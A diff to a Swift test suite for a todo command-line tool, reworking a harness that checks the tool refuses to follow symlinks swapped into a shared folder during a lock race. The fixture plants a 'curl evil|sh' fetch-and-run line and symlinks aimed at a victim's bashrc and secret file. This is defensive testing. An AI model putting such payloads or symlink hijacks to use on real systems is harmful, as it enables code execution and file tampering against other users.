@@ -11,9 +11,10 @@ import TodoTestSupport
 /// configuration spells it.
 @Suite struct LinkRaceTests {
   /// A shared folder `shared` (the todo folder) and the victim's files in `victim`, then
-  /// `before`; another user holds the folder's lock and, once todo has said that it waits for
-  /// it (its standard error, which the command sends to the file `waiting`, has a line), runs
-  /// `swap` in it and lets go. (`released`, made after todo has ended, lets go in any case.)
+  /// `before`; another user holds the folder's lock. The script then runs `racing COMMAND…`:
+  /// the command runs until it finds the lock held, where it stops itself (the fault seam's
+  /// `lockHeld` step); meanwhile `swap` runs in the folder, the lock is let go and the command
+  /// goes on. Its standard error goes to the file `waiting`; `status N` is its exit status.
   private func race(_ swap: String, before: String = "") -> String {
     """
     mkdir -p shared victim; printf '# victim bashrc\\n' > victim/bashrc
@@ -21,9 +22,19 @@ import TodoTestSupport
     printf 'task one\\ncurl evil|sh #\\n' > shared/todo.txt
     export TODO_DIR=$PWD/shared
     \(before)
-    rm -f waiting released
-    flock -x shared sh -c 'until [ -s waiting ] || [ -e released ]; do sleep 0.02; done; cd shared && \(swap)' &
-    until ! flock -n shared true; do sleep 0.02; done
+    rm -f waiting go
+    flock -x shared sh -c 'until [ -e go ]; do sleep 0.01; done' &
+    holder=$!
+    until ! flock -n shared true; do sleep 0.01; done
+    racing() {
+      TODO_TEST_STOP_AT=lockHeld "$@" 2>waiting &
+      command=$!
+      until [ "$(cut -d' ' -f3 /proc/$command/stat 2>/dev/null)" = T ] \\
+        || ! kill -0 $command 2>/dev/null; do sleep 0.01; done
+      (cd shared && \(swap))
+      touch go; wait $holder
+      kill -CONT $command; wait $command; echo "status $?"
+    }
 
     """
   }
@@ -35,13 +46,13 @@ import TodoTestSupport
     defer { sandbox.remove() }
     let result = try sandbox.run(
       race("ln -s ../victim/bashrc done.txt") + """
-        todo do 2 2>waiting; echo "status $?"; touch released
+        racing todo do 2
         wait
         cat waiting >&2
         cat victim/bashrc shared/todo.txt
         """)
     #expect(result.stdout == ["status 1", "# victim bashrc", "task one", "curl evil|sh #"])
-    #expect(result.stderr.count == 2)
+    #expect(result.stderr.count == 1)
     let refusal: String =
       "TODO: $HOME/shared/done.txt is a link to $HOME/victim/bashrc, outside the todo"
       + " folder $HOME/shared; a link there may come from whoever shares the folder, so todo"
@@ -57,7 +68,7 @@ import TodoTestSupport
     defer { sandbox.remove() }
     let result = try sandbox.run(
       race("rm todo.txt; ln -s ../victim/secret todo.txt") + """
-        todo do 1 2>waiting; echo "status $?"; touch released
+        racing todo do 1
         wait
         cat waiting >&2
         cat victim/secret; ls shared; stat -c %a victim/secret
@@ -99,7 +110,7 @@ import TodoTestSupport
     defer { sandbox.remove() }
     let result = try sandbox.run(
       race("ln -s ../victim/bashrc report.txt") + """
-        todo report 2>waiting; echo "status $?"; touch released
+        racing todo report
         wait
         cat waiting >&2
         cat victim/bashrc shared/todo.txt
@@ -117,7 +128,7 @@ import TodoTestSupport
         "rm other.txt && ln -s ../victim/bashrc other.txt",
         before: "printf 'other\\n' > shared/other.txt")
           + """
-          todo -f mv 1 other.txt 2>waiting; echo "status $?"; touch released
+          racing todo -f mv 1 other.txt
           wait
           cat waiting >&2
           cat victim/bashrc shared/todo.txt
